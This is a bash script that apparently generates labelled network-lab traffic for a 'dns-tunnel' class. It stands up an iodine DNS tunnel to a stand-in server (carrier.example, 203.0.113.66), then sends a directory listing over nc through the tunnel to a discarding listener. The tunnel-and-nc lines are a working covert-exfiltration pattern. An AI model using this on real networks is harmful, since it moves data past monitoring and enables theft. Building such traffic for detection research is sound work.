#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=dns-tunnel half=report tool=iodine,nc far=out seconds=46 parts=dns,nas,outside-web
# iodine with CNAME alone, asking eagerly: somebody reads lists over it, so more comes up than down.
# shellcheck disable=SC2012 # any text will do
if [ "$1" = out ]; then timeout 70 iodined -f -c -P nwlab -l 203.0.113.66 10.99.2.1/24 carrier.example & sleep 2; exec timeout 66 socat TCP-LISTEN:8080,fork,reuseaddr SYSTEM:'cat >/dev/null'; fi
timeout 44 iodine -f -r -L 0 -T CNAME -O Base32 -m 120 -P nwlab 10.30.0.53 carrier.example >/dev/null 2>&1 &
sleep 14
(ls -laR /usr/share/doc | head -c 30000; sleep 1) | timeout 26 nc -N 10.99.2.1 8080 >/dev/null
wait; true
